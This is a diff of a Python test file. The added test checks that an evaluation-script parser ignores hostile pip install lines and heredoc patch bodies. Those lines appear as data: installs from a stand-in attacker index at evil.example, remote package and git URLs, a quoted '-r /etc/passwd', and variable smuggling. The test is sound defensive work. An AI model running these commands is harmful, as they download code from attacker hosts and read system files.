@@ -14,6 +14,7 @@ def test_eval_script_pip_installs_are_read_apart_from_the_package() -> None:
     script = (
         "python -m pip install -e .[test] --verbose\n"
         "git apply -v - <<'EOF'\n"
+        "EOF\n"
         "python -m pip install -q 'pytest<7.2'\n"
         "pip install .\n"
         "pip install -r requirements.txt\n"
@@ -21,6 +22,34 @@ def test_eval_script_pip_installs_are_read_apart_from_the_package() -> None:
     )
     assert eval_pip_requirements(script) == ["pytest<7.2", "six==1.16.0", "idna>=3"]
     assert eval_pip_requirements("") == []
+
+
+def test_an_eval_script_cannot_steer_the_download() -> None:
+    """The script is data: options, files, URLs, variables and shell operators are not
+    requirements, and a hidden patch's heredoc body (context lines included) is not read."""
+    hostile = [
+        "pip install -i http://evil.example/simple six",
+        "pip install --index-url http://evil.example/simple six",
+        "pip install -f http://evil.example/ six",
+        "pip install ' -r /etc/passwd'",
+        "pip install ' --index-url http://evil.example'",
+        "pip install 'https://evil.example/?${PIP_INDEX_URL}'",
+        "pip install 'pkg @ https://evil.example/pkg.tar.gz'",
+        "pip install git+https://evil.example/x.git",
+        "pip install ./local /abs/path",
+        "pip install '$HOME'",
+    ]
+    assert eval_pip_requirements("\n".join(hostile)) == []
+    assert eval_pip_requirements("pip install -q six && echo done 2>&1 # tail") == ["six"]
+    patch = (
+        "git apply -v - <<'EOF_114329324912'\n"
+        "diff --git a/x.py b/x.py\n"
+        " pip install leaked-from-the-test-patch\n"
+        "+pip install also-leaked\n"
+        "EOF_114329324912\n"
+        "pip install 'pytest<7.2'\n"
+    )
+    assert eval_pip_requirements(patch) == ["pytest<7.2"]
 
 
 def test_an_eval_script_install_runs_offline(settings: BuildSettings, built: list) -> None:
